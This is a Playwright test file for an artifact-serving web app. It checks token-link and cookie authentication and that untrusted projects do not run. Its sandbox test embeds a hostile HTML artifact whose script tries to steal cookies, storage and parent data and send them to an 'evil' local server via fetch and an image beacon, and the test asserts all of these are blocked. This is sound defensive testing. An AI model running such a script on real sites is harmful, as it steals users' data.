import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures.ts';
import { writeRun } from './write-run.ts';

test('a link works once, the cookie stays, and nothing answers without it', async ({ world, page, playwright }) => {
  const host = await world.start();
  const stranger = await playwright.request.newContext();
  expect((await stranger.get(`${host.origin}/`, { maxRedirects: 0 })).status()).toBe(401);
  await page.goto(host.url);
  await expect(page).not.toHaveURL(/token/);
  await page.reload();
  await expect(page.getByRole('navigation')).toBeVisible();
  const again = await stranger.get(host.url, { maxRedirects: 0 });
  expect(again.status()).toBe(401);
  await stranger.dispose();
});

test('an HTML artifact runs in a world of its own: no cookie, no storage, no parent, no network', async ({
  world,
  page,
}) => {
  const reached: string[] = [];
  const elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => elsewhere.once('listening', resolve));
  const evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  const run = writeRun(world.root, {
    name: 'hostile',
    artifacts: {
      'report.html': `<h1>Report</h1><script>
        const out = { origin: self.origin };
        const attempt = async (name, work) => { try { out[name] = 'got ' + String(await work()); } catch (error) { out[name] = 'blocked'; } };
        (async () => {
          await attempt('cookie', () => document.cookie);
          await attempt('storage', () => localStorage.length);
          await attempt('parent', () => parent.document.title);
          await attempt('api', () => fetch('/health').then((r) => r.text()));
          await attempt('leak', () => fetch('${evil}/leak'));
          await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket(location.href.replace('http', 'ws')); s.onopen = resolve; s.onerror = reject; }));
          await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = '${evil}/image'; }));
          parent.postMessage(JSON.stringify(out), '*');
        })();
      </script>`,
    },
  });
  const host = await world.start();
  await page.goto(host.url);
  await page.waitForURL(/\/p\/[^/]+\/runs/);
  const project = new URL(page.url()).pathname.split('/')[2]!;
  const result = page.evaluate(
    () => new Promise<string>((resolve) => addEventListener('message', (event) => resolve(String(event.data)))),
  );
  await page.evaluate((address) => {
    const frame = document.createElement('iframe');
    frame.sandbox.add('allow-scripts');
    frame.src = address;
    document.body.append(frame);
  }, `/raw/${project}/${run}/report.html`);
  expect(JSON.parse(await result)).toEqual({
    origin: 'null',
    cookie: 'blocked',
    storage: 'blocked',
    parent: 'blocked',
    api: 'blocked',
    leak: 'blocked',
    socket: 'blocked',
    image: 'blocked',
  });
  expect(reached).toEqual([]);
  elsewhere.close();
});

test('an untrusted project runs nothing, and says so', async ({ world, page }) => {
  const host = await world.start();
  await page.goto(host.url);
  await page.waitForURL(/\/p\/[^/]+\/runs/);
  const project = new URL(page.url()).pathname.split('/')[2]!;
  await page.goto(`${host.origin}/p/${project}/start`);
  await expect(page.getByText(/trust/i).first()).toBeVisible();
});
